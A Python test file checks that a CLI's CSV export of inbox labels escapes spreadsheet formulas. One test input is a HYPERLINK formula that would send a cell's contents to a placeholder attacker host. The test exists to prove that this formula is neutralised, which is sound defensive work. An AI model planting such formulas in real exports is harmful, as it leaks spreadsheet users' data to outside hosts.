"""CSV files the CLI writes are safe to open in a spreadsheet: a commenter's formula is
written as text (decision 21)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from jalsa.inbox import store as inbox_store

Cli = Callable[..., Any]


def test_inbox_labels_neutralise_a_commenters_formula(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"see replies")'
    labels = [(hostile, "spam", "en"), ("-5", "clean", "ur"), ("@everyone look", "spam", "en")]
    monkeypatch.setattr(inbox_store, "labels_since", lambda session, since: labels)
    out = tmp_path / "labels.csv"
    result = cli("inbox", "labels", "--out", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(out.open(newline="", encoding="utf-8")))
    assert rows == [
        ["text", "label", "language"],
        ["'" + hostile, "spam", "en"],
        ["-5", "clean", "ur"],
        ["'@everyone look", "spam", "en"],
    ]
